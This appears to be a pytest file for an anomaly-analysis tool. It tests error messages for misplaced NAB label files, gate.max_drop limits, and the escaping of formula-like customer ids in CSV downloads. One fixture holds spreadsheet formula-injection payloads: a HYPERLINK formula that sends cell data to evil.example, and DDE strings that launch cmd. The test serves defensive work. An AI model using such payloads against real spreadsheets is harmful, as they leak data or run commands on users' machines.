"""Session 40's audit of inputs left open: label files (`run_analysis.py --kpis … --events`,
`bench/bench_nab.py --nab`), `gate.max_drop`, and customer ids that look like spreadsheet
formulas. Before: NAB's combined_labels.json as --events was "[…][0]: expected [start, end]", one
file's list of NAB windows "[0]: each event needs 'start' and 'end'", a KPI series or NAB's results
file as --events and a labels CSV as --kpis said nothing of what they were; in bench_nab a labels
file of the wrong kind was an AttributeError traceback or 41 exit-2 runs; a header-only labels
CSV was scored silently and extra columns (a misspelt 'direction') were dropped silently;
`max_drop: 5` (for 0.05) made every baseline comparison pass; '=HYPERLINK(…)' ids went unquoted
into the action list downloads made for spreadsheets."""

from __future__ import annotations

import json
import logging
import sys
from io import StringIO
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from tests.robustness.test_kpis_file_shapes import _bad  # exit 2, one line, nothing written
from tests.robustness.txgen import transactions, write_csv

from shocklab.cli import run_cli

ROOT = Path(__file__).resolve().parents[2]
DAYS = pd.date_range("2025-01-01", periods=60, freq="D")
NAB_KEY = "realTraffic/speed_1.csv"
WINDOWS = [["2025-02-01 00:00:00.000000", "2025-02-03 00:00:00.000000"]]


@pytest.fixture
def kpis(tmp_path):
    """A clean daily KPI file named like a NAB file (no ingestion warning)."""
    (tmp_path / "realTraffic").mkdir()
    p = tmp_path / "realTraffic" / "speed_1.csv"
    vals = (100 + np.random.default_rng(0).normal(0, 2, len(DAYS))).round(2)
    pd.DataFrame({"timestamp": DAYS.strftime("%Y-%m-%d"), "value": vals}).to_csv(p, index=False)
    return p


def _bad_events(cli, tmp_path, kpis, events, *needles):
    _bad(cli, tmp_path, events, *needles, args=("--kpis", kpis, "--events", events))


# --- (a) a label file of another kind ------------------------------------------------------

def test_nab_combined_labels_json_is_named_and_windows_asked_for(cli, tmp_path, kpis):
    ev = tmp_path / "combined_labels.json"
    ev.write_text(json.dumps({NAB_KEY: ["2025-02-02 00:00:00"], "other/x.csv": []}))
    _bad_events(cli, tmp_path, kpis, ev, "combined_labels.json layout", "anomaly timestamps",
                "combined_windows.json")


def test_one_files_list_of_timestamps_is_named(cli, tmp_path, kpis):
    ev = tmp_path / "points.json"
    ev.write_text(json.dumps(["2025-02-02 00:00:00"]))
    _bad_events(cli, tmp_path, kpis, ev, "a list of timestamps", "not windows",
                "combined_windows.json")


@pytest.mark.parametrize("header, needle", [
    ("timestamp,value", "a KPI series? it goes to --kpis"),
    ("timestamp,value,anomaly_score,label", "per-row labels ('label'"),
])
def test_a_series_or_a_results_file_as_events_says_what_it_is(cli, tmp_path, kpis, header,
                                                              needle):
    ev = tmp_path / "ev.csv"
    ev.write_text(header + "\n" + ",".join(["2025-02-01"] + ["1"] * header.count(",")) + "\n")
    _bad_events(cli, tmp_path, kpis, ev, "needs columns 'start' and 'end'", needle)


def test_one_files_nab_windows_are_read_as_its_entry_would_be(tmp_path, kpis):
    """The entry of combined_windows.json saved alone ([[start, end], …]) was "[0]: each event
    needs 'start' and 'end'"; it is read as NAB's windows, the same events as the whole file."""
    from evaluation.labels import load_events_file

    whole, alone = tmp_path / "combined_windows.json", tmp_path / "speed_1.json"
    whole.write_text(json.dumps({NAB_KEY: WINDOWS}))
    alone.write_text(json.dumps(WINDOWS))
    got = load_events_file(alone, ["value"], kpi_file=kpis)
    assert got == load_events_file(whole, ["value"], kpi_file=kpis)
    assert [(e["type"], e["start"], e["end"]) for e in got] == [
        ("nab_window", "2025-02-01T00:00:00", "2025-02-03T00:00:00")]


def test_a_labels_csv_given_as_kpis_says_so(cli, tmp_path):
    p = tmp_path / "labels.csv"
    p.write_text("start,end\n2025-02-01,2025-02-03\n2025-03-01,2025-03-02\n")
    _bad(cli, tmp_path, p, "hold windows: a labels file? it goes to --events")


def test_a_nab_json_given_as_kpis_points_to_events(cli, tmp_path):
    p = tmp_path / "combined_windows.json"
    p.write_text(json.dumps({NAB_KEY: WINDOWS}))
    r = cli("analysis", "--kpis", p, "--out", tmp_path / "run")
    assert r.returncode == 2 and "--events" in r.stderr, r.stderr


def _bench_nab():
    sys.path.insert(0, str(ROOT / "bench"))
    import bench_nab

    return bench_nab


@pytest.mark.parametrize("labels, needle", [
    (WINDOWS, "one file's entry"),
    ({NAB_KEY: ["2025-02-02 00:00:00"]}, "combined_labels.json layout"),
    ({"events": [{"start": "2025-02-01", "end": "2025-02-02"}]}, "ShockLab's"),
])
def test_bench_nab_names_a_labels_file_of_another_kind(tmp_path, monkeypatch, capsys, kpis,
                                                       labels, needle):
    """One file's windows in labels/combined_windows.json ended in an AttributeError traceback
    after the CLI checks; NAB's combined_labels.json there ran every file to exit 2."""
    bench_nab = _bench_nab()
    nab = tmp_path / "mine"
    (nab / "data" / "realTraffic").mkdir(parents=True)
    kpis.rename(nab / "data" / "realTraffic" / "speed_1.csv")
    (nab / "labels").mkdir()
    (nab / "labels" / "combined_windows.json").write_text(json.dumps(labels))
    monkeypatch.setattr(sys, "argv", ["bench_nab.py", "--nab", str(nab), "--out",
                                      str(tmp_path / "out")])
    assert bench_nab.main() == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and needle in err and "combined_windows.json" in err, err
    assert not (tmp_path / "out").exists()


# --- (b) no window, (c) extra columns ------------------------------------------------------

@pytest.mark.parametrize("name, text", [("hdr.csv", "start,end\n"), ("empty.json", "[]")])
def test_a_labels_file_without_a_window_is_a_series_without_anomalies(cli, tmp_path, kpis,
                                                                      name, text):
    """Scored as NAB scores its artificialNoAnomaly files (every incident a false alarm), with a
    warning: a header alone may be an export that lost its rows."""
    ev = tmp_path / name
    ev.write_text(text)
    r = cli("analysis", "--kpis", kpis, "--events", ev, "--out", tmp_path / "run")
    assert r.returncode == 0, r.stderr
    assert f"{ev}: no labelled window: scored as a series without anomalies" in r.stdout + r.stderr
    card = json.loads((tmp_path / "run" / "scorecard.json").read_text())
    assert card["series_metrics"]["windows"] == 0


def test_nabs_own_empty_entry_needs_no_warning(tmp_path, kpis, caplog):
    from evaluation.labels import load_events_file

    ev = tmp_path / "combined_windows.json"
    ev.write_text(json.dumps({NAB_KEY: []}))
    with caplog.at_level(logging.WARNING, logger="shocklab"):
        assert load_events_file(ev, ["value"], kpi_file=kpis) == []
    assert "no labelled window" not in caplog.text


def test_extra_label_columns_are_ignored_with_a_warning_naming_them(tmp_path, caplog):
    """As --calendar treats its extra columns: a note or an annotator's name is no reason to
    refuse the file, but a misspelt optional column ('directon') was dropped without a word."""
    from evaluation.labels import load_events_file

    ev = tmp_path / "ev.csv"
    ev.write_text("start,end,Note,directon,kpi\n2025-02-01,2025-02-03,big,down,value\n")
    with caplog.at_level(logging.WARNING, logger="shocklab"):
        (e,) = load_events_file(ev, ["value"])
    assert e["primary_kpi"] == "value" and e["effects"] is None
    assert "column(s) 'Note', 'directon' ignored (a labels CSV reads start, end, event_id, " \
           "type, expected, kpi, direction)" in caplog.text


# --- gate.max_drop ---------------------------------------------------------------------------

def _experiment(tmp_path, **fields):
    doc = yaml.safe_load((ROOT / "config" / "experiments" / "ci_gate.yaml").read_text())
    doc.update(scenario=str(ROOT / "config" / "scenarios" / "small.yaml"),
               analysis=str(ROOT / "config" / "analysis.yaml"), **fields)
    p = tmp_path / "exp.yaml"
    p.write_text(yaml.safe_dump(doc))
    return p


def _experiment_cli(capsys, *args):
    import run_experiment

    code = run_cli(run_experiment.main, [str(a) for a in args])
    return code, capsys.readouterr().err.strip()


@pytest.mark.parametrize("max_drop", [5, 1])
def test_a_max_drop_no_fraction_can_exceed_is_refused(tmp_path, capsys, max_drop):
    """A change of a recall, precision or F1 lies within ±1: from max_drop 1 on, no regression
    could fail the --baseline comparison (max_drop: 5 typed for 0.05)."""
    exp = _experiment(tmp_path, gate={"checks": [], "max_drop": max_drop})
    code, err = _experiment_cli(capsys, "--config", exp, "--out", tmp_path / "out")
    assert code == 2 and len(err.splitlines()) == 1, err
    assert f"gate.max_drop: {max_drop} is a tolerated drop" in err
    assert "consensus.recall is between 0 and 1" in err and "0.05" in err
    assert not (tmp_path / "out").exists()


def test_max_drop_in_days_stays_allowed_where_no_fraction_is_compared(tmp_path):
    from experiments.config import load_experiment

    exp = _experiment(tmp_path, metrics=["consensus.median_delay_days"],
                      gate={"checks": [], "max_drop": 2})
    assert load_experiment(exp).config.gate.max_drop == 2
    ok = _experiment(tmp_path, gate={"checks": [], "max_drop": 0.05})
    assert load_experiment(ok).config.gate.max_drop == 0.05


def test_a_gate_flag_on_a_fraction_with_a_large_max_drop_is_refused(tmp_path, capsys):
    """--gate replaces the file's checks and its metric is compared with the baseline too."""
    exp = _experiment(tmp_path, metrics=["consensus.median_delay_days"],
                      gate={"checks": [], "max_drop": 2})
    base = tmp_path / "base.parquet"
    pd.DataFrame({"setting_id": ["s"], "seed": [1], "status": ["ok"],
                  "consensus.recall": [0.9]}).to_parquet(base)
    code, err = _experiment_cli(capsys, "--config", exp, "--out", tmp_path / "out",
                                "--gate", "consensus.recall>=0.5", "--baseline", base)
    assert code == 2 and "gate.max_drop: 2" in err and "consensus.recall" in err, err
    assert len(err.splitlines()) == 1 and not (tmp_path / "out").exists()


# --- customer ids like spreadsheet formulas ----------------------------------------------------

EVIL = {12000: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        12001: "+cmd|' /C calc'!A0", 12002: "@SUM(1+1)*cmd|' /C calc'!A0",
        12003: "-2+3+cmd|' /C calc'!A0", 12004: "-42"}


def test_formula_like_ids_stay_as_read_in_the_run_and_are_quoted_in_downloads(cli, tmp_path):
    """The run's customers/*.csv are data: ids as read (the key back to the store's records, and
    between segments.csv and actions.csv for the API). The action list downloads are made for a
    spreadsheet: there a formula-like id gets OWASP's single quote; a plain number (-42) not."""
    import warnings

    df = transactions()
    df["Customer ID"] = df["Customer ID"].astype(int).map(lambda c: EVIL.get(c, str(c)))
    tx = write_csv(df, tmp_path / "tx.csv")
    r = cli("analysis", "--transactions", tx, "--out", tmp_path / "reports" / "tx")
    assert r.returncode == 0, r.stderr[-800:]
    assert "4 customer id(s) begin like a spreadsheet formula" in r.stdout + r.stderr
    acts = pd.read_csv(tmp_path / "reports" / "tx" / "customers" / "actions.csv", dtype=str)
    assert set(EVIL.values()) <= set(acts["customer_id"])

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from api.app import Settings, create_app

    app = create_app(Settings(reports=tmp_path / "reports", runs=tmp_path / "runs"))
    with TestClient(app) as client:
        got = client.get("/runs/tx/customers/actions", params={"format": "csv"})
        page = client.get("/runs/tx/customers/actions", params={"limit": 1000}).json()
    ids = set(pd.read_csv(StringIO(got.text), dtype=str)["customer_id"])
    assert {"'" + v for k, v in EVIL.items() if k != 12004} | {"-42"} <= ids
    assert not any(i.startswith(("=", "+", "@")) for i in ids)
    assert set(EVIL.values()) <= {i["customer_id"] for i in page["items"]}   # JSON: as read


def test_neutralize_formulas_keeps_numbers_and_other_texts():
    from shocklab.spreadsheet import neutralize_formulas

    df = pd.DataFrame({"id": ["=1+1", "-42", "+3.5", "\t=1", "\rx", "a=b", None],
                       "n": [-1, 2, 3, 4, 5, 6, 7]})
    out = neutralize_formulas(df)
    assert out["id"].tolist()[:6] == ["'=1+1", "-42", "+3.5", "'\t=1", "'\rx", "a=b"]
    assert out["n"].tolist() == df["n"].tolist() and df["id"].iloc[0] == "=1+1"
    clean = pd.DataFrame({"id": ["a", "-7"]})
    assert neutralize_formulas(clean) is clean


def test_a_max_drop_mapping_with_a_typo_is_refused_before_any_cell(tmp_path, capsys):
    """A per-metric max_drop whose key names no compared metric would leave that metric at 0
    without a word: one line, exit 2, nothing written."""
    exp = _experiment(tmp_path, gate={"checks": [], "max_drop": {"consensus.recal": 0.05}})
    code, err = _experiment_cli(capsys, "--config", exp, "--out", tmp_path / "out")
    assert code == 2 and len(err.splitlines()) == 1, err
    assert "gate.max_drop: 'consensus.recal' is not a compared metric" in err
    assert not (tmp_path / "out").exists()
    ok = _experiment(tmp_path, gate={"checks": [], "max_drop": {
        "consensus.recall": 0.05, "consensus.median_delay_days": 2}})
    from experiments.config import load_experiment

    assert load_experiment(ok).config.gate.max_drop["consensus.median_delay_days"] == 2
